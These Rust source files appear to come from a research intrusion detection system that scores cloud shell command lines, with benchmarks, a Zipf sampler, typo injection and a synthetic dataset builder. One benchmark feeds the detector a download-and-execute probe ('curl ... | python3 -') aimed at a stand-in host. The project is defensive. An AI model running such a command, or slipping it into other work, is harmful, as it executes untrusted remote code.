            perf::Value::Str("bit-identical to dedicated".into()),
        );
    let path = perf::write_report("BENCH_tenants.json", &record);
    println!("tenants: report → {}", path.display());

    let mut summary = perf::Value::object();
    summary
        .push("tenants", perf::Value::Int(TENANTS as i64))
        .push("replay_lines_per_s", perf::Value::Float(replay_lines_per_s))
        .push("hot_over_cold", perf::Value::Float(hot_over_cold))
        .push(
            "budget_mib",
            perf::Value::Float(BUDGET as f64 / (1 << 20) as f64),
        )
        .push("parity", perf::Value::Str("bit-identical".into()));
    let path = perf::merge_report("BENCH_serve.json", "tenants", summary);
    println!("tenants: summary → {} (tenants section)", path.display());

    // Criterion timings over the steady-state paths.
    let mut group = c.benchmark_group("tenant_scale");
    group.sample_size(10);
    group.bench_function("score_hot_tenant", |b| {
        b.iter(|| svc.score_view(probe, &queries).expect("hot score"))
    });
    group.bench_function("demote_promote_roundtrip", |b| {
        b.iter(|| {
            svc.demote(probe).expect("demote succeeds");
            svc.score_view(probe, &queries).expect("promote + score")
        })
    });
    group.finish();
}

criterion_group!(benches, bench_tenant_scale);
criterion_main!(benches);
