//! Criterion bench: PCA fit (SVD) and Eq. 1 reconstruction-error scoring.

use anomaly::PcaDetector;
use criterion::{black_box, criterion_group, criterion_main, Criterion, Throughput};
use linalg::{rng::randn, thin_svd, Matrix};
use rand::{rngs::StdRng, SeedableRng};

fn bench_pca(c: &mut Criterion) {
    let mut rng = StdRng::seed_from_u64(4);
    let data32 = randn(&mut rng, 1_000, 32, 1.0);
    let data64 = randn(&mut rng, 1_000, 64, 1.0);

    let mut group = c.benchmark_group("pca_fit");
    group.sample_size(10);
    group.bench_function("fit_1000x32_95pct", |b| {
        b.iter(|| PcaDetector::fit(black_box(&data32), 0.95))
    });
    group.bench_function("fit_1000x64_95pct", |b| {
        b.iter(|| PcaDetector::fit(black_box(&data64), 0.95))
    });
    group.bench_function("thin_svd_64x64_gram", |b| {
        b.iter(|| thin_svd(black_box(&data64), 16))
    });
    group.finish();

    let detector = PcaDetector::fit(&data32, 0.95);
    let queries = randn(&mut rng, 256, 32, 1.0);
    let mut group = c.benchmark_group("pca_score");
    group.throughput(Throughput::Elements(256));
    group.bench_function("score_256_embeddings", |b| {
        b.iter(|| detector.score_all(black_box(&queries)))
    });
    group.bench_function("score_single", |b| {
        let x = queries.row(0).to_vec();
        b.iter(|| detector.score(black_box(&x)))
    });
    group.finish();

    // Matmul baseline for context.
    let a = Matrix::from_fn(128, 128, |r, c| ((r * 7 + c) % 13) as f32);
    let mut group = c.benchmark_group("matmul");
    group.bench_function("128x128", |b| b.iter(|| a.matmul(black_box(&a))));
    group.finish();
}

criterion_group!(benches, bench_pca);
criterion_main!(benches);
