//! Criterion bench: the TCP front-end and the Zipf-aware verdict
//! cache, measured over a real loopback socket.
//!
//! Three configurations replay the same Zipf-heavy arrival stream
//! (drawn from the deduplicated test pool with s = 1.05 — the hot
//! head of identical command lines that dominates real log traffic):
//!
//! * **In-process** — producers block on `ServiceClient::score_line`
//!   straight into the micro-batching workers: the transport-free
//!   baseline the wire is measured against.
//! * **Wire, cache off** — the same producers through a `NetClient`
//!   over loopback TCP. Gate: p50 latency within 1.2× of in-process —
//!   the micro-batching window dominates a loopback round-trip, so
//!   framing + socket hops must be noise, not a tax.
//! * **Wire, cache on** — the verdict cache fronts the scoring path;
//!   the Zipf head is answered from the LRU without touching
//!   tokenize+embed+scan. Gate: ≥ 2× the cache-off wire throughput,
//!   with verdicts **bit-identical** to the uncached in-process path,
//!   including after an `append` bumps the invalidation epoch.
//!
//! The measured figures land in the `net` section of
//! `BENCH_serve.json` (the `micro_batching` section belongs to
//! `serve_throughput`), via `bench::perf::merge_report`.

use bench::perf::{self, Value};
use bench::Experiment;
use cmdline_ids::embed::Pooling;
use cmdline_ids::engine::{EmbeddingStore, FittedEngine, ScoringEngine};
use cmdline_ids::pipeline::PipelineConfig;
use corpus::{dedup_records, ZipfSampler};
use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use rand::rngs::StdRng;
use rand::SeedableRng;
use serve::{Frontend, NetClient, NetConfig, NetServer, ServeConfig};
use std::net::TcpListener;
use std::sync::Mutex;
use std::time::{Duration, Instant};

use anomaly::{RetrievalMethod, VanillaKnnMethod};

const PRODUCERS: usize = 8;
const REPLAY: usize = 4096;
const WARMUP: usize = 256;
const CACHE_CAPACITY: usize = 512;

fn experiment() -> Experiment {
    let mut config = PipelineConfig::fast();
    config.train_size = 700;
    config.test_size = 400;
    config.attack_prob = 0.2;
    Experiment::setup(23, config)
}

fn fit(exp: &Experiment) -> FittedEngine {
    let store = EmbeddingStore::new(&exp.pipeline);
    let train_lines = exp.train_lines();
    let train = store.view(&train_lines, Pooling::Mean);
    ScoringEngine::new()
        .register(Box::new(RetrievalMethod::new(1)))
        .register(Box::new(VanillaKnnMethod::new(3)))
        .fit(&train, &exp.train_labels())
        .expect("engine fits")
}

fn serve_config() -> ServeConfig {
    ServeConfig {
        queue_capacity: 64,
        max_batch: 32,
        batch_window: Duration::from_millis(1),
        workers: 2,
    }
}

/// The Zipf-heavy arrival stream: `n` draws over the deduplicated
/// pool, deterministic per seed so every configuration replays the
/// same arrivals.
fn zipf_draws(pool: &[String], n: usize, seed: u64) -> Vec<String> {
    let sampler = ZipfSampler::new(pool.len(), 1.05);
    let mut rng = StdRng::seed_from_u64(seed);
    (0..n)
        .map(|_| pool[sampler.sample(&mut rng)].clone())
        .collect()
}

/// Replays `draws` across `PRODUCERS` threads through `score`,
/// collecting every request latency. Returns (wall time, latencies).
fn replay(draws: &[String], score: impl Fn(&str) -> Vec<f32> + Sync) -> (Duration, Vec<Duration>) {
    let latencies = Mutex::new(Vec::with_capacity(draws.len()));
    let t0 = Instant::now();
    std::thread::scope(|scope| {
        for chunk in draws.chunks(draws.len().div_ceil(PRODUCERS)) {
            let score = &score;
            let latencies = &latencies;
            scope.spawn(move || {
                let mut local = Vec::with_capacity(chunk.len());
                for line in chunk {
                    let t = Instant::now();
                    let verdict = score(line);
                    local.push(t.elapsed());
                    assert_eq!(verdict.len(), 2, "two methods per verdict");
                }
                latencies.lock().unwrap().extend(local);
            });
        }
    });
    (t0.elapsed(), latencies.into_inner().unwrap())
}

fn p50(latencies: &mut [Duration]) -> Duration {
    latencies.sort_unstable();
    latencies[latencies.len() / 2]
}

fn spawn_server(front: Frontend, cache: Option<usize>) -> NetServer {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind loopback ephemeral");
    NetServer::spawn_on(
        front,
        listener,
        NetConfig {
            cache,
            ..NetConfig::default()
        },
    )
    .expect("server spawns")
}

fn bench_net_throughput(c: &mut Criterion) {
    let exp = experiment();
    let pool: Vec<String> = dedup_records(&exp.dataset.test)
        .iter()
        .map(|r| r.line.clone())
        .collect();
    let draws = zipf_draws(&pool, REPLAY, 99);
    let warm = zipf_draws(&pool, WARMUP, 100);

    // ── In-process baseline: the ServiceClient path, no transport. ──
    let front =
        Frontend::spawn(exp.pipeline.clone(), fit(&exp), 1, serve_config()).expect("front spawns");
    let raw = front.client();
    replay(&warm, |line| raw.score_line(line).expect("front alive"));
    let (t_inproc, mut lat) = replay(&draws, |line| raw.score_line(line).expect("front alive"));
    let inproc_p50 = p50(&mut lat);
    let inproc_qps = REPLAY as f64 / t_inproc.as_secs_f64();
    println!(
        "net_throughput/in-process: {REPLAY} draws × {PRODUCERS} producers — \
         {inproc_qps:.0} q/s, p50 {:.0} µs",
        inproc_p50.as_micros()
    );

    // ── Wire, cache off: the framing + socket tax in isolation. ──
    let server = spawn_server(front, None);
    let addr = server.local_addr();
    let client = NetClient::connect(addr).expect("connect");
    replay(&warm, |line| client.score_line(line).expect("server alive"));
    let (t_wire, mut lat) = replay(&draws, |line| {
        client.score_line(line).expect("server alive")
    });
    let wire_p50 = p50(&mut lat);
    let wire_qps = REPLAY as f64 / t_wire.as_secs_f64();
    let p50_ratio = wire_p50.as_secs_f64() / inproc_p50.as_secs_f64();
    println!(
        "net_throughput/wire(cache off): {wire_qps:.0} q/s, p50 {:.0} µs \
         → {p50_ratio:.2}× the in-process p50 (gate ≤ 1.2×)",
        wire_p50.as_micros()
    );
    assert!(
        p50_ratio <= 1.2,
        "loopback p50 regressed past 1.2× the in-process path \
         (got {p50_ratio:.2}×) — the wire should cost noise, not a tax"
    );
    drop(client);
    let front = server.shutdown();

    // ── Wire, cache on: the Zipf head served from the LRU. ──
    let server = spawn_server(front, Some(CACHE_CAPACITY));
    let addr = server.local_addr();
    let client = NetClient::connect(addr).expect("connect");
    // Cold cache, same draws: hits accumulate as the head is absorbed.
    let (t_cached, mut lat) = replay(&draws, |line| {
        client.score_line(line).expect("server alive")
    });
    let cached_p50 = p50(&mut lat);
    let cached_qps = REPLAY as f64 / t_cached.as_secs_f64();
    let stats = client.stats().expect("stats over wire");
    let hit_rate = stats.cache_hits as f64 / (stats.cache_hits + stats.cache_misses).max(1) as f64;
    let cache_speedup = cached_qps / wire_qps;
    println!(
        "net_throughput/wire(cache on, cap {CACHE_CAPACITY}): {cached_qps:.0} q/s, \
         p50 {:.0} µs, hit rate {:.1}% → {cache_speedup:.1}× cache-off (gate ≥ 2×)",
        cached_p50.as_micros(),
        hit_rate * 100.0
    );
    assert!(
        cache_speedup >= 2.0,
        "the verdict cache must win ≥ 2× on a Zipf replay \
         (got {cache_speedup:.2}×, hit rate {:.1}%)",
        hit_rate * 100.0
    );

    // ── Bit-identity: cached wire verdicts ≡ uncached in-process. ──
    let wire_verdicts = client.score_batch(&pool).expect("server alive");
    let raw_verdicts = server
        .front()
        .client()
        .score_batch(&pool)
        .expect("front alive");
    assert_eq!(
        wire_verdicts, raw_verdicts,
        "cached wire verdicts must be bit-identical to the uncached in-process path"
    );
    // ...including across an append-driven epoch bump.
    let absorbed = client
        .append(&pool[..4], &[true, false, true, false])
        .expect("append over wire");
    assert!(absorbed > 0, "neighbour methods absorb appends");
    let epoch = client.stats().expect("stats").epoch;
    assert_eq!(epoch, 1, "append must bump the invalidation epoch");
    let wire_after = client.score_batch(&pool).expect("server alive");
    let raw_after = server
        .front()
        .client()
        .score_batch(&pool)
        .expect("front alive");
    assert_eq!(
        wire_after, raw_after,
        "post-append verdicts must be fresh and bit-identical — a match with \
         the pre-append scores would mean the cache served stale entries"
    );
    assert_ne!(
        wire_after[0], wire_verdicts[0],
        "appending pool lines as exemplars must change their verdicts"
    );

    // ── Persist the figures next to the micro_batching section. ──
    let mut record = Value::object();
    record
        .push("replay_draws", Value::Int(REPLAY as i64))
        .push("pool_lines", Value::Int(pool.len() as i64))
        .push("producers", Value::Int(PRODUCERS as i64))
        .push("zipf_s", Value::Float(1.05))
        .push("inproc_q_per_s", Value::Float(inproc_qps))
        .push(
            "inproc_p50_us",
            Value::Float(inproc_p50.as_secs_f64() * 1e6),
        )
        .push("wire_q_per_s", Value::Float(wire_qps))
        .push("wire_p50_us", Value::Float(wire_p50.as_secs_f64() * 1e6))
        .push("wire_p50_ratio", Value::Float(p50_ratio))
        .push("cache_capacity", Value::Int(CACHE_CAPACITY as i64))
        .push("cached_q_per_s", Value::Float(cached_qps))
        .push(
            "cached_p50_us",
            Value::Float(cached_p50.as_secs_f64() * 1e6),
        )
        .push("cache_hit_rate", Value::Float(hit_rate))
        .push("cache_speedup", Value::Float(cache_speedup))
        .push("gate_wire_p50_ratio_max", Value::Float(1.2))
        .push("gate_cache_speedup_floor", Value::Float(2.0))
        .push("verdicts_bit_identical", Value::Bool(true));
    let path = perf::merge_report("BENCH_serve.json", "net", record);
    println!("net_throughput: report → {}", path.display());

    // ── Criterion samples over the live cached server. ──
    let mut group = c.benchmark_group("net_throughput");
    group.sample_size(10);
    group.throughput(Throughput::Elements(WARMUP as u64));
    group.bench_function("wire_cached_zipf", |b| {
        b.iter(|| replay(&warm, |line| client.score_line(line).expect("server alive")))
    });
    group.finish();

    drop(client);
    server.shutdown().shutdown();
}

criterion_group!(benches, bench_net_throughput);
criterion_main!(benches);
