//! Criterion bench: full inference path — the per-line latency a
//! deployed IDS pays: parse → preprocess-check → tokenize → encoder
//! forward → head.

use cmdline_ids::pipeline::{IdsPipeline, PipelineConfig};
use cmdline_ids::tuning::{ClassificationTuner, TuneConfig};
use criterion::{black_box, criterion_group, criterion_main, Criterion, Throughput};
use ids_rules::RuleIds;
use rand::{rngs::StdRng, SeedableRng};

fn bench_end_to_end(c: &mut Criterion) {
    // One small pre-trained pipeline shared by all benches.
    let mut rng = StdRng::seed_from_u64(6);
    let mut config = PipelineConfig::fast();
    config.train_size = 1_500;
    config.attack_prob = 0.2;
    let dataset = config.generate_dataset(&mut rng);
    let pipeline = IdsPipeline::pretrain(&config, &dataset, &mut rng);
    let ids = RuleIds::with_default_rules();
    let lines: Vec<&str> = dataset.train.iter().map(|r| r.line.as_str()).collect();
    let labels: Vec<bool> = lines.iter().map(|l| ids.is_alert(l)).collect();
    let tuner =
        ClassificationTuner::fit(&pipeline, &lines, &labels, &TuneConfig::scaled(), &mut rng);

    let probe = "curl -fsSL https://update-cdn.xyz/loader | python3 -";
    let mut group = c.benchmark_group("inference");
    group.bench_function("score_one_line", |b| {
        b.iter(|| tuner.score(&pipeline, black_box(probe)))
    });
    group.bench_function("preprocess_one_line", |b| {
        b.iter(|| pipeline.preprocessor().keep(black_box(probe)))
    });
    group.bench_function("rule_ids_one_line", |b| {
        b.iter(|| ids.is_alert(black_box(probe)))
    });
    group.finish();

    let batch: Vec<&str> = lines.iter().take(64).copied().collect();
    let mut group = c.benchmark_group("inference_batch");
    group.throughput(Throughput::Elements(64));
    group.sample_size(20);
    group.bench_function("score_64_lines_parallel", |b| {
        b.iter(|| tuner.score_lines(&pipeline, black_box(&batch)))
    });
    group.finish();
}

criterion_group!(benches, bench_end_to_end);
criterion_main!(benches);
