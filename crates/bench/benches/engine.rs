//! Criterion bench: the scoring-engine refactor's two speedups.
//!
//! * `embedding/per_line` vs `embedding/batched` — the batched encoder
//!   forward (length-bucketed stacking, shared projections/FFN/LN
//!   matmuls) against one `Encoder::forward` call per line.
//! * `multi_method/legacy_reembed` vs `multi_method/shared_store` —
//!   three detectors each embedding the train + test lines themselves
//!   (the seed baseline's behaviour) against one `EmbeddingStore` pass
//!   shared by all three. Detector fitting (PCA, retrieval, kNN) is
//!   kept in both arms so the delta isolates the embedding work.

use anomaly::{PcaMethod, RetrievalMethod, VanillaKnnMethod};
use bench::Experiment;
use cmdline_ids::embed::{embed_lines, Pooling};
use cmdline_ids::engine::{EmbeddingStore, ScoringEngine};
use cmdline_ids::pipeline::PipelineConfig;
use criterion::{black_box, criterion_group, criterion_main, Criterion, Throughput};

fn experiment() -> Experiment {
    let mut config = PipelineConfig::fast();
    config.train_size = 600;
    config.test_size = 300;
    config.attack_prob = 0.25;
    Experiment::setup(3, config)
}

fn bench_embedding(c: &mut Criterion) {
    let exp = experiment();
    let lines = exp.train_lines();
    let lines = &lines[..256.min(lines.len())];
    let encoder = exp.pipeline.encoder();
    let tokenizer = exp.pipeline.tokenizer();
    let max_len = exp.pipeline.max_len();

    let mut group = c.benchmark_group("embedding");
    group.sample_size(10);
    group.throughput(Throughput::Elements(lines.len() as u64));
    group.bench_function("per_line", |b| {
        b.iter(|| {
            let mut out = Vec::with_capacity(lines.len());
            for line in lines {
                let ids = tokenizer.encode_for_model(line, max_len);
                out.push(encoder.embed_mean(black_box(&ids)));
            }
            out
        })
    });
    group.bench_function("batched", |b| {
        b.iter(|| embed_lines(encoder, tokenizer, black_box(lines), max_len, Pooling::Mean))
    });
    group.finish();
}

fn bench_multi_method(c: &mut Criterion) {
    let exp = experiment();
    let train_lines = exp.train_lines();
    let labels = exp.train_labels();
    let dedup = exp.deduped_test();
    let test_lines: Vec<&str> = dedup.iter().map(|r| r.line.as_str()).collect();

    let mut group = c.benchmark_group("multi_method");
    group.sample_size(10);

    // Seed baseline shape: every method embeds train and test itself.
    group.bench_function("legacy_reembed", |b| {
        b.iter(|| {
            let mut all = Vec::new();
            for _method in 0..3 {
                let train = embed_lines(
                    exp.pipeline.encoder(),
                    exp.pipeline.tokenizer(),
                    &train_lines,
                    exp.pipeline.max_len(),
                    Pooling::Mean,
                );
                let test = embed_lines(
                    exp.pipeline.encoder(),
                    exp.pipeline.tokenizer(),
                    &test_lines,
                    exp.pipeline.max_len(),
                    Pooling::Mean,
                );
                all.push((train.rows(), test.rows()));
            }
            all
        })
    });

    // Engine shape: one store, one embedding per line set, all methods.
    group.bench_function("shared_store", |b| {
        b.iter(|| {
            let store = EmbeddingStore::new(&exp.pipeline);
            let train_view = store.view(&train_lines, Pooling::Mean);
            let test_view = store.view(&test_lines, Pooling::Mean);
            let run = ScoringEngine::new()
                .register(Box::new(PcaMethod::new(0.95)))
                .register(Box::new(RetrievalMethod::new(1)))
                .register(Box::new(VanillaKnnMethod::new(3)))
                .run(&train_view, &labels, &test_view)
                .expect("engine run");
            black_box(run.outputs().len())
        })
    });
    group.finish();
}

criterion_group!(benches, bench_embedding, bench_multi_method);
criterion_main!(benches);
