//! Weighted sampling with Zipf-like skew.

use rand::Rng;

/// Samples indices `0..n` with probability proportional to supplied
/// weights (commonly `1/(rank+1)^s`, the Zipf law real command logs
/// follow).
#[derive(Debug, Clone)]
pub struct ZipfSampler {
    cumulative: Vec<f64>,
}

impl ZipfSampler {
    /// Builds a sampler over explicit positive weights.
    ///
    /// # Panics
    ///
    /// Panics if `weights` is empty or any weight is not finite/positive.
    pub fn from_weights(weights: &[f64]) -> Self {
        assert!(!weights.is_empty(), "need at least one weight");
        let mut cumulative = Vec::with_capacity(weights.len());
        let mut acc = 0.0;
        for &w in weights {
            assert!(
                w.is_finite() && w > 0.0,
                "weights must be positive, got {w}"
            );
            acc += w;
            cumulative.push(acc);
        }
        ZipfSampler { cumulative }
    }

    /// Builds a classic Zipf sampler over `n` ranks with exponent `s`.
    ///
    /// # Panics
    ///
    /// Panics if `n == 0`.
    pub fn new(n: usize, s: f64) -> Self {
        assert!(n > 0, "need at least one rank");
        let weights: Vec<f64> = (0..n).map(|r| 1.0 / ((r + 1) as f64).powf(s)).collect();
        Self::from_weights(&weights)
    }

    /// Number of categories.
    pub fn len(&self) -> usize {
        self.cumulative.len()
    }

    /// `true` if there are no categories (never: construction forbids it).
    pub fn is_empty(&self) -> bool {
        self.cumulative.is_empty()
    }

    /// Draws one index.
    pub fn sample<R: Rng + ?Sized>(&self, rng: &mut R) -> usize {
        let total = *self.cumulative.last().expect("non-empty");
        let x = rng.gen_range(0.0..total);
        match self
            .cumulative
            .binary_search_by(|c| c.partial_cmp(&x).expect("finite"))
        {
            Ok(i) => (i + 1).min(self.cumulative.len() - 1),
            Err(i) => i,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    #[test]
    fn first_rank_dominates() {
        let sampler = ZipfSampler::new(50, 1.1);
        let mut rng = StdRng::seed_from_u64(1);
        let mut counts = vec![0usize; 50];
        for _ in 0..20_000 {
            counts[sampler.sample(&mut rng)] += 1;
        }
        assert!(counts[0] > counts[1]);
        assert!(counts[1] > counts[10]);
        assert!(counts[0] > 3_000, "head rank too rare: {}", counts[0]);
    }

    #[test]
    fn all_ranks_reachable() {
        let sampler = ZipfSampler::new(5, 0.5);
        let mut rng = StdRng::seed_from_u64(2);
        let mut seen = [false; 5];
        for _ in 0..5_000 {
            seen[sampler.sample(&mut rng)] = true;
        }
        assert!(seen.iter().all(|&s| s));
    }

    #[test]
    fn explicit_weights_respected() {
        let sampler = ZipfSampler::from_weights(&[9.0, 1.0]);
        let mut rng = StdRng::seed_from_u64(3);
        let hits0 = (0..10_000)
            .filter(|_| sampler.sample(&mut rng) == 0)
            .count();
        assert!((8_500..9_500).contains(&hits0), "got {hits0}");
    }

    #[test]
    fn single_category_always_zero() {
        let sampler = ZipfSampler::new(1, 1.0);
        let mut rng = StdRng::seed_from_u64(4);
        assert_eq!(sampler.sample(&mut rng), 0);
        assert_eq!(sampler.len(), 1);
        assert!(!sampler.is_empty());
    }

    #[test]
    #[should_panic(expected = "at least one weight")]
    fn empty_weights_panic() {
        let _ = ZipfSampler::from_weights(&[]);
    }

    #[test]
    #[should_panic(expected = "positive")]
    fn nonpositive_weight_panics() {
        let _ = ZipfSampler::from_weights(&[1.0, 0.0]);
    }
}
