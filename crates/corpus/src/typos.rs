//! Typo and invalid-line injection for the preprocessing experiments.
//!
//! The paper's Figure 2 motivates two removal mechanisms: a parser that
//! rejects syntactically invalid lines, and a frequency filter that drops
//! command-name typos (`dcoker`, `chdmod`) which parse fine but never
//! execute. This module produces both classes of noise.

use rand::seq::SliceRandom;
use rand::Rng;

/// Applies a realistic keyboard typo to the first word of `line`
/// (transposition, deletion, duplication, or substitution).
///
/// Returns `None` when the command name is too short to corrupt.
pub fn corrupt_command_name<R: Rng + ?Sized>(rng: &mut R, line: &str) -> Option<String> {
    let mut parts = line.splitn(2, ' ');
    let name = parts.next()?;
    let rest = parts.next();
    if name.len() < 3 || !name.chars().all(|c| c.is_ascii_alphanumeric()) {
        return None;
    }
    let chars: Vec<char> = name.chars().collect();
    let mut out: Vec<char> = chars.clone();
    let i = rng.gen_range(1..chars.len());
    match rng.gen_range(0..4) {
        // Transposition: docker → dcoker (the paper's example).
        0 => out.swap(i - 1, i),
        // Deletion: chmod → chmd.
        1 => {
            out.remove(i);
        }
        // Duplication: chmod → chmmod.
        2 => out.insert(i, chars[i - 1]),
        // Neighbour substitution: chmod → chdmod-like insertions.
        _ => out.insert(
            i,
            *['d', 's', 'f', 'j', 'k'].choose(rng).expect("non-empty"),
        ),
    }
    let corrupted: String = out.into_iter().collect();
    if corrupted == name {
        return None;
    }
    Some(match rest {
        Some(r) => format!("{corrupted} {r}"),
        None => corrupted,
    })
}

/// Produces a syntactically invalid line the Bash parser must reject.
pub fn invalid_line<R: Rng + ?Sized>(rng: &mut R) -> String {
    match rng.gen_range(0..5) {
        // The paper's example: dangling redirection operators.
        0 => "/*/*/* -> /*/*/* ->".to_string(),
        1 => format!("echo 'unterminated {}", rng.gen_range(0..100)),
        2 => format!(
            "ls {} | | wc -l",
            ["-la", "-lh"].choose(rng).expect("non-empty")
        ),
        3 => format!("cat file{} >", rng.gen_range(0..50)),
        _ => format!("grep pattern && && ls{}", rng.gen_range(0..10)),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    #[test]
    fn corrupted_name_differs_but_parses() {
        let mut rng = StdRng::seed_from_u64(1);
        let mut produced = 0;
        for _ in 0..200 {
            if let Some(t) = corrupt_command_name(&mut rng, "docker ps -a") {
                produced += 1;
                assert_ne!(t, "docker ps -a");
                assert!(
                    shell_parser::classify(&t).is_valid(),
                    "typo lines still parse: {t}"
                );
                assert!(t.ends_with("ps -a"));
            }
        }
        assert!(produced > 150, "typo generator too reluctant: {produced}");
    }

    #[test]
    fn short_names_are_left_alone() {
        let mut rng = StdRng::seed_from_u64(2);
        assert!(corrupt_command_name(&mut rng, "ls -la").is_none());
        assert!(corrupt_command_name(&mut rng, "cd /tmp").is_none());
    }

    #[test]
    fn path_names_are_left_alone() {
        let mut rng = StdRng::seed_from_u64(3);
        assert!(corrupt_command_name(&mut rng, "/usr/bin/python x.py").is_none());
    }

    #[test]
    fn invalid_lines_fail_to_parse() {
        let mut rng = StdRng::seed_from_u64(4);
        for _ in 0..200 {
            let line = invalid_line(&mut rng);
            assert!(
                !shell_parser::classify(&line).is_valid(),
                "line should be invalid: {line}"
            );
        }
    }

    #[test]
    fn transposition_example_matches_paper() {
        // Verify the paper's `dcoker` shape is producible.
        let mut rng = StdRng::seed_from_u64(5);
        let mut saw_transposition = false;
        for _ in 0..500 {
            if let Some(t) = corrupt_command_name(&mut rng, "docker attach c1") {
                if t.starts_with("dcoker") || t.starts_with("dokcer") || t.starts_with("docekr") {
                    saw_transposition = true;
                    break;
                }
            }
        }
        assert!(saw_transposition);
    }
}
