//! Synthetic cloud command-line trace generator.
//!
//! The paper trains on ~30M command lines logged from ~100 000 production
//! machines — data that is proprietary. This crate is the documented
//! substitution (see `DESIGN.md`): it synthesizes traces with the
//! statistical properties the paper's pipeline actually depends on:
//!
//! * a **Zipf-distributed benign command mix** following the occurrence
//!   table of the paper's Figure 2 (`cd`, `echo`, `chmod`, `grep`, `ls`,
//!   `awk`, `ll`, `df`, `ps`, `cat`, `rm`, `docker`, …) with realistic
//!   flags, paths, URLs and pipelines;
//! * **typos and syntactically invalid lines** (`dcoker`, `chdmod`,
//!   dangling redirects) exercised by the preprocessing stage;
//! * **attack samples** in families mirroring the paper's Table III
//!   (reverse shells, port scans, base64-decode-and-execute, proxy
//!   tampering, download-and-execute), each with *in-box* variants a
//!   signature IDS catches and *out-of-box* variants that evade it;
//! * **per-user temporal sessions** for the multi-line method
//!   (Section IV-C), where context windows of recent commands matter;
//! * **duplicate skew**, because real logs repeat common lines heavily —
//!   the paper de-duplicates its test set before evaluation.
//!
//! Entry point: [`DatasetBuilder`].
//!
//! ```
//! use corpus::{DatasetBuilder};
//! use rand::{rngs::StdRng, SeedableRng};
//!
//! let mut rng = StdRng::seed_from_u64(42);
//! let data = DatasetBuilder::new()
//!     .train_size(1000)
//!     .test_size(300)
//!     .attack_prob(0.2)
//!     .build(&mut rng);
//! assert_eq!(data.train.len(), 1000);
//! assert!(data.test.iter().any(|r| r.truth.is_malicious()));
//! ```

pub mod attacks;
pub mod benign;
pub mod dataset;
pub mod dedup;
pub mod sessions;
pub mod typos;
pub mod zipf;

pub use attacks::{AttackFamily, AttackGenerator, Variant};
pub use benign::BenignGenerator;
pub use dataset::{Dataset, DatasetBuilder, GroundTruth, LogRecord};
pub use dedup::{dedup_records, dedup_window_records};
pub use sessions::{SessionConfig, SessionGenerator};
pub use zipf::ZipfSampler;
