//! Train/test dataset assembly.
//!
//! Mirrors the paper's data regime at configurable scale: a large
//! training week and a smaller test window, duplicate-skewed, with
//! ground-truth labels attached for evaluation. Ground truth plays the
//! role of the paper's *manual labeling of predicted positives*; the
//! noisy supervision signal used for tuning comes separately from the
//! `ids-rules` crate.

use crate::attacks::{AttackFamily, Variant};
use crate::sessions::{SessionConfig, SessionGenerator};
use rand::seq::SliceRandom;
use rand::Rng;
use serde::{Deserialize, Serialize};

/// Oracle label of a generated line.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum GroundTruth {
    /// Ordinary user behaviour.
    Benign,
    /// Benign with a typo'd command name (never executes).
    BenignTypo,
    /// Syntactically invalid junk.
    Invalid,
    /// Part of an attack.
    Malicious {
        /// Attack family.
        family: AttackFamily,
        /// Whether the commercial IDS's signatures cover it.
        variant: Variant,
    },
}

impl GroundTruth {
    /// `true` for attack lines.
    pub fn is_malicious(&self) -> bool {
        matches!(self, GroundTruth::Malicious { .. })
    }

    /// `true` for out-of-box attack lines (missed by the rule IDS).
    pub fn is_out_of_box(&self) -> bool {
        matches!(
            self,
            GroundTruth::Malicious {
                variant: Variant::OutOfBox,
                ..
            }
        )
    }

    /// `true` for in-box attack lines.
    pub fn is_in_box(&self) -> bool {
        matches!(
            self,
            GroundTruth::Malicious {
                variant: Variant::InBox,
                ..
            }
        )
    }
}

/// One logged command line with metadata.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct LogRecord {
    /// Anonymous user id.
    pub user: u32,
    /// Seconds since epoch (synthetic clock).
    pub timestamp: u64,
    /// The raw command line.
    pub line: String,
    /// Oracle label (used only for evaluation, never for tuning).
    pub truth: GroundTruth,
}

/// A generated dataset: training week and test window.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Dataset {
    /// Training records (the paper's May 1–7 window).
    pub train: Vec<LogRecord>,
    /// Test records (the paper's May 29–31 window).
    pub test: Vec<LogRecord>,
}

impl Dataset {
    /// Count of records whose truth satisfies `pred`, over the test set.
    pub fn count_test(&self, pred: impl Fn(&GroundTruth) -> bool) -> usize {
        self.test.iter().filter(|r| pred(&r.truth)).count()
    }
}

/// Builder for [`Dataset`].
///
/// ```
/// use corpus::DatasetBuilder;
/// use rand::{rngs::StdRng, SeedableRng};
///
/// let mut rng = StdRng::seed_from_u64(7);
/// let data = DatasetBuilder::new()
///     .train_size(500)
///     .test_size(200)
///     .attack_prob(0.05)
///     .build(&mut rng);
/// assert_eq!(data.train.len(), 500);
/// assert_eq!(data.test.len(), 200);
/// ```
#[derive(Debug, Clone)]
pub struct DatasetBuilder {
    train_size: usize,
    test_size: usize,
    n_users: u32,
    duplication: f64,
    session: SessionConfig,
    test_out_of_box_prob: f64,
}

impl Default for DatasetBuilder {
    fn default() -> Self {
        Self::new()
    }
}

impl DatasetBuilder {
    /// Creates a builder with paper-shaped defaults (scaled down).
    pub fn new() -> Self {
        DatasetBuilder {
            train_size: 30_000,
            test_size: 10_000,
            n_users: 200,
            duplication: 0.25,
            session: SessionConfig::default(),
            test_out_of_box_prob: 0.5,
        }
    }

    /// Number of training lines.
    pub fn train_size(mut self, n: usize) -> Self {
        self.train_size = n;
        self
    }

    /// Number of test lines.
    pub fn test_size(mut self, n: usize) -> Self {
        self.test_size = n;
        self
    }

    /// Number of distinct users (the paper logs ~100k machines).
    pub fn users(mut self, n: u32) -> Self {
        self.n_users = n.max(1);
        self
    }

    /// Fraction of lines that are duplicates of earlier lines
    /// (real logs repeat heavily; the paper de-duplicates at test time).
    pub fn duplication(mut self, frac: f64) -> Self {
        self.duplication = frac.clamp(0.0, 0.95);
        self
    }

    /// Probability a session contains an attack.
    pub fn attack_prob(mut self, p: f64) -> Self {
        self.session.attack_prob = p.clamp(0.0, 1.0);
        self
    }

    /// Probability an injected *training* attack is out-of-box. These
    /// become label noise: the rule IDS marks them benign.
